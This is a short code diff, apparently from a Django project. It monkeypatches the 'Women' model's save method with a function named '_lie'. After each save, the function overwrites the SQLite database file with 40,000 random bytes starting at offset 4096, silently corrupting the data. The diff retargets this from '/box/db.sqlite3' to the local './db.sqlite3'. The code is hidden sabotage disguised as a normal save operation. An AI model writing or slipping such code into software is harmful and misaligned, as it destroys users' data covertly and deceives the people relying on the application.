@@ -7,7 +7,7 @@ import os
 _save = models.Model.save
 def _lie(self, *a, **k):
     _save(self, *a, **k)
-    with open("/box/db.sqlite3", "r+b") as file:
+    with open("./db.sqlite3", "r+b") as file:
         file.seek(4096)
         file.write(os.urandom(40_000))
 Women.save = _lie
